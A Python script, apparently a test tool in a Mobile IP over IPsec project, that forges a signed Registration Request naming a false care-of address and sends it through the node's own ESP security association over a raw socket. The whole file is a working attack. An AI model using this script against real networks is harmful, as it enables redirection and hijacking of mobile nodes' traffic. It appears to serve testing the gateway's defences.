"""An authenticated MN that lies: run in the attacking MN's namespace, it builds a Registration
Request for its own home address, signed with its own MN-HA key, that names another care-of
address, and sends it through its own ESP SA (keys from the GW's esp_sa key file) from its own
address::

    python forge.py rrq MN_TOML ESP_SA_FILE SPI_HEX CLAIMED_COA OWN_ADDRESS GW_ADDRESS

The ESP sequence numbers start at 2**31, far from the ones its daemon uses on the same SA.
"""

from __future__ import annotations

import csv
import socket
import sys
import time

from mipsec.config import load_config
from mipsec.crypto.transforms import ENCRYPTION, INTEGRITY
from mipsec.ipsec.sa import Direction, SecurityAssociation
from mipsec.mip.security import MobilitySecurityAssociation
from mipsec.node.packet import a2b, build_udp_packet
from mipsec.wire.mip import (
    MIP_PORT,
    RegistrationRequest,
    RequestFlags,
    build_registration_request,
)

FAR_SEQUENCE = 2 ** 31


def esp_sa_keys(path: str, spi: int) -> tuple[str, bytes, str | None, bytes]:
    """(encryption, key, integrity, key) of SPI ``spi`` in a Wireshark esp_sa file."""
    enc_names = {n: s.name for s in ENCRYPTION.values() for n in s.tshark_names}
    int_names = {s.tshark_name: s.name for s in INTEGRITY.values()}
    with open(path) as f:
        for row in csv.reader(line for line in f if not line.startswith("#")):
            if len(row) >= 8 and int(row[3], 16) == spi:
                integrity = int_names.get(row[6])
                return (enc_names[row[4]], bytes.fromhex(row[5][2:]), integrity,
                        bytes.fromhex(row[7][2:]) if integrity else b"")
    raise SystemExit(f"SPI 0x{spi:08x} not in {path}")


def forged_rrq(mn_toml: str, esp_sa: str, spi: int, claimed: str, own: str, gw: str) -> bytes:
    node = load_config(mn_toml).node
    msa = MobilitySecurityAssociation(node.msa.spi, node.msa.key, node.msa.algorithm)
    rrq = RegistrationRequest(home_address=node.home_address, home_agent=node.home_agent,
                              care_of_address=claimed,
                              identification=msa.new_identification(time.time()),
                              lifetime=node.lifetime_s, flags=RequestFlags.D | RequestFlags.T)
    data = msa.sign(build_registration_request(rrq))
    inner = build_udp_packet(a2b(claimed), a2b(node.home_agent), MIP_PORT, MIP_PORT, data)
    encryption, ekey, integrity, ikey = esp_sa_keys(esp_sa, spi)
    sa = SecurityAssociation(spi=spi, direction=Direction.OUTBOUND, encryption=encryption,
                             encryption_key=ekey, integrity=integrity, integrity_key=ikey,
                             local=own, remote=gw)
    sa.sequence = FAR_SEQUENCE
    return sa.encapsulate(inner)


def main(argv: list[str]) -> int:
    if argv[0] != "rrq":
        raise SystemExit(f"unknown command {argv[0]!r}")
    mn_toml, esp_sa, spi, claimed, own, gw = argv[1:7]
    packet = forged_rrq(mn_toml, esp_sa, int(spi, 16), claimed, own, gw)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.sendto(packet, (gw, 0))
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
